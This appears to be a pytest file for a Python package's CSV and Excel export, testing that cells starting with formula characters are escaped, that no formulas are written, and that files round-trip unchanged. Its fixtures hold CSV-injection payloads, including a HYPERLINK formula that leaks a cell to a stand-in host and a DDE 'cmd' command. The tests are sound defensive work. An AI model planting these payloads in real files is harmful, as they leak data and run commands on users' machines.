"""CSV and Excel files the package writes: never a formula, safe to open, read back exactly."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

import sinch_notebook as sn
from sinch_notebook.files import UNSAFE_START, csv_bytes, excel_bytes, neutralize, restore
from sinch_notebook.sandbox import Sandbox

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "'=already quoted",
    "=1+1",
]
LABELS = {
    "formula": "=cmd|' /C calc'!A0",
    "plus": "+49 30 1234",
    "minus": "-5",
    "at": "@home",
    "quote": "'leading quote",
    "plain": "eu-west",
}


@pytest.fixture
def hostile(sandbox: Sandbox) -> tuple[sn.SubprojectsClient, pd.DataFrame]:
    """An account whose names and labels start with every character that starts a formula."""
    client = sandbox.connect(activate=False)
    for name in HOSTILE:
        client.create(name, labels=LABELS)
    client.create("Plain name", labels={"plain": "x"})
    return client, client.frame()


def test_neutralize_prefixes_every_formula_start_and_is_undone_exactly() -> None:
    for start in (*UNSAFE_START, "'"):
        text = f"{start}x"
        assert neutralize(text) == f"'{start}x"
        assert restore(neutralize(text)) == text
    assert neutralize("eu-west") == "eu-west" and restore("eu-west") == "eu-west"


def test_csv_cells_never_start_a_formula_and_every_field_is_quoted(hostile) -> None:
    _client, frame = hostile
    text = csv_bytes(frame).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:2] == ["subprojectId", "displayName"]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(UNSAFE_START)]
    assert "'=HYPERLINK(" in text and "'-5" in text and "'+49 30 1234" in text
    assert "''leading quote" in text
    for line in text.splitlines()[1:]:
        assert line.startswith('"'), line  # OWASP: every field in double quotes


def test_csv_round_trip_with_the_documented_reader_plans_no_change(hostile) -> None:
    client, frame = hostile
    back = sn.read_csv(csv_bytes(frame))
    assert sorted(back["displayName"]) == sorted([*HOSTILE, "Plain name"])
    assert set(back["label.formula"].dropna()) == {LABELS["formula"]}
    plan = client.plan(back)
    assert len(plan) == 0, plan.frame


def test_excel_cells_are_strings_never_formulas(hostile) -> None:
    _client, frame = hostile
    data = excel_bytes(frame)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    types = {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert "f" not in types
    names = [cell.value for cell in sheet["B"][1:]]
    assert sorted(names) == sorted([*HOSTILE, "Plain name"])


def test_excel_is_made_for_people(hostile) -> None:
    _client, frame = hostile
    sheet = openpyxl.load_workbook(io.BytesIO(excel_bytes(frame))).active
    headers = [cell.value for cell in sheet[1]]
    assert "updateTime (UTC)" in headers and "createTime (UTC)" in headers
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
    column = headers.index("updateTime (UTC)") + 1
    first = sheet.cell(row=2, column=column)
    assert first.is_date and first.number_format == "yyyy-mm-dd hh:mm:ss"
    exact = headers.index("updateTime (RFC 3339)") + 1
    letter = openpyxl.utils.get_column_letter(exact)
    assert sheet.column_dimensions[letter].hidden  # for the round trip, not for people
    widths = {
        header: sheet.column_dimensions[openpyxl.utils.get_column_letter(n)].width
        for n, header in enumerate(headers, start=1)
    }
    assert widths["subprojectId"] >= 26 + 2  # an id is read whole
    assert widths["deleted"] < widths["subprojectId"]  # sized to content, not one width
    assert max(widths.values()) <= 62


def test_excel_round_trip_with_the_documented_reader_plans_no_change(hostile) -> None:
    client, frame = hostile
    back = sn.read_excel(excel_bytes(frame))
    assert list(back.columns) == list(frame.columns)
    pd.testing.assert_series_equal(
        back["updateTime"], frame["updateTime"].astype(back["updateTime"].dtype)
    )
    plan = client.plan(back)
    assert len(plan) == 0, plan.frame


def test_to_csv_and_to_excel_write_the_panels_files_that_read_back_unchanged(
    hostile, tmp_path
) -> None:
    """`sn.to_csv` / `sn.to_excel`: the same bytes as the panel's downloads, in a file; the
    listing's UTC time columns need nothing done first (pandas' own to_excel refuses them)."""
    client, frame = hostile
    assert isinstance(frame["updateTime"].dtype, pd.DatetimeTZDtype)  # kept tz-aware: UTC
    csv_path = sn.to_csv(frame, tmp_path / "out" / "listing.csv")
    assert csv_path.read_bytes() == csv_bytes(frame)
    excel_path = sn.to_excel(frame, tmp_path / "listing.xlsx")
    assert openpyxl.load_workbook(excel_path).active["A1"].value == "subprojectId"
    for back in (sn.read_csv(csv_path), sn.read_excel(excel_path)):
        assert len(client.plan(back)) == 0
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["listing.csv", "listing.xlsx", "out"]
    with pytest.raises(sn.ValidationError, match="is a folder"):
        sn.to_excel(frame, tmp_path)


def test_the_readme_way_for_plain_pandas_to_excel_works(hostile, tmp_path) -> None:
    """What the README says to do before `df.to_excel()`: the times as naive UTC."""
    _client, frame = hostile
    with pytest.raises(ValueError, match="timezones"):
        frame.to_excel(tmp_path / "plain.xlsx")
    naive = frame.copy()
    for name in ("createTime", "updateTime"):
        naive[name] = naive[name].dt.tz_localize(None)
    naive.to_excel(tmp_path / "plain.xlsx", index=False)
    assert pd.read_excel(tmp_path / "plain.xlsx")["updateTime"].notna().all()
